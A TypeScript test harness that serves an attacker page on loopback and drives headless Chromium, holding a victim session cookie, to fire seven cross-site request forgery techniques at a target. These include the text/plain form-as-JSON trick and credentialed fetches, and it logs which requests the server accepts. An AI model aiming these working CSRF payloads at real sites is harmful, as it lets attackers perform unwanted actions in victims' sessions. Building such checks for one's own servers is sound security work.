import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium } from '@playwright/test';

export interface CsrfTarget {
  method: string;
  path: string;
}

export interface CsrfAttempt {
  technique: string;
  path: string;
  /** What the server answered, as the browser saw it on the wire; null when the browser never sent it. */
  status: number | null;
}

export interface CsrfRun {
  attackerOrigin: string;
  chromium: string;
  attempts: CsrfAttempt[];
}

/** Ways a page on another origin can make the victim's browser send a state-changing request. */
const TECHNIQUES = [
  'form-urlencoded',
  'form-multipart',
  'form-text-plain-json',
  'fetch-no-cors-text',
  'fetch-no-cors-form',
  'fetch-cors-json',
  'beacon-text',
] as const;

function attackerPage(targetOrigin: string, targets: CsrfTarget[]): string {
  const plan = JSON.stringify(
    targets.flatMap((t) =>
      TECHNIQUES.map((technique, i) => ({
        technique,
        url: `${targetOrigin}${t.path}?via=${technique}`,
        frame: `f${targets.indexOf(t)}_${i}`,
      })),
    ),
  );
  return `<!doctype html><html><body><script>
const plan = ${plan};
const body = '{"comment":"csrf","username":"operator","password":"x","events":[]}';
function form(step, enctype) {
  const frame = document.createElement('iframe'); frame.name = step.frame; document.body.appendChild(frame);
  const f = document.createElement('form'); f.method = 'POST'; f.action = step.url; f.target = step.frame; f.enctype = enctype;
  const input = document.createElement('input'); input.type = 'hidden';
  // The classic trick: a text/plain form whose name=value pair reads as JSON.
  if (enctype === 'text/plain') { input.name = '{"comment":"csrf","x":"'; input.value = '"}'; } else { input.name = 'comment'; input.value = 'csrf'; }
  f.appendChild(input); document.body.appendChild(f); f.submit();
}
async function run() {
  for (const step of plan) {
    try {
      if (step.technique === 'form-urlencoded') form(step, 'application/x-www-form-urlencoded');
      else if (step.technique === 'form-multipart') form(step, 'multipart/form-data');
      else if (step.technique === 'form-text-plain-json') form(step, 'text/plain');
      else if (step.technique === 'fetch-no-cors-text') await fetch(step.url, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body });
      else if (step.technique === 'fetch-no-cors-form') await fetch(step.url, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body });
      else if (step.technique === 'fetch-cors-json') await fetch(step.url, { method: 'POST', mode: 'cors', credentials: 'include', headers: { 'content-type': 'application/json' }, body });
      else if (step.technique === 'beacon-text') navigator.sendBeacon(step.url, new Blob([body], { type: 'text/plain' }));
    } catch (e) { /* a refused preflight rejects the fetch; the wire shows what happened */ }
  }
  await new Promise((r) => setTimeout(r, 1500));
  document.title = 'done';
}
run();
</script></body></html>`;
}

/**
 * Serves an attacker page on a second loopback port and opens it in Chromium with the victim's
 * session cookie set for the target; the page tries every technique against every target. Same
 * host, other port: same-site, so SameSite=Lax cookies are sent and only the server's checks stand.
 */
export async function runCsrfAttack(options: {
  targetUrl: string;
  cookie: { name: string; value: string };
  targets: CsrfTarget[];
  executablePath?: string;
}): Promise<CsrfRun> {
  const target = new URL(options.targetUrl);
  const page = attackerPage(target.origin, options.targets);
  const attacker = http.createServer((_, res) =>
    res.writeHead(200, { 'content-type': 'text/html' }).end(page),
  );
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  const attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  const browser = await chromium.launch({
    executablePath: options.executablePath ?? '/usr/bin/chromium',
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'],
  });
  try {
    const context = await browser.newContext();
    await context.addCookies([
      {
        name: options.cookie.name,
        value: options.cookie.value,
        domain: target.hostname,
        path: '/',
        httpOnly: true,
        sameSite: 'Lax',
        secure: false,
      },
    ]);
    const tab = await context.newPage();
    const attempts: CsrfAttempt[] = [];
    const byRequest = new Map<unknown, CsrfAttempt>();
    tab.on('request', (request) => {
      if (!request.url().startsWith(target.origin)) return;
      const url = new URL(request.url());
      const attempt: CsrfAttempt = {
        technique: `${url.searchParams.get('via') ?? 'unknown'} (${request.method()} ${(request.headers()['content-type'] ?? 'no content type').split(';')[0]})`,
        path: url.pathname,
        status: null,
      };
      attempts.push(attempt);
      byRequest.set(request, attempt);
    });
    tab.on('response', (response) => {
      const attempt = byRequest.get(response.request());
      if (attempt) attempt.status = response.status();
    });
    await tab.goto(attackerOrigin);
    await tab.waitForFunction(() => document.title === 'done', undefined, { timeout: 60_000 });
    await tab.waitForTimeout(500);
    return { attackerOrigin, chromium: `Chromium ${browser.version()}`, attempts };
  } finally {
    await browser.close();
    await new Promise<void>((resolve) => attacker.close(() => resolve()));
  }
}
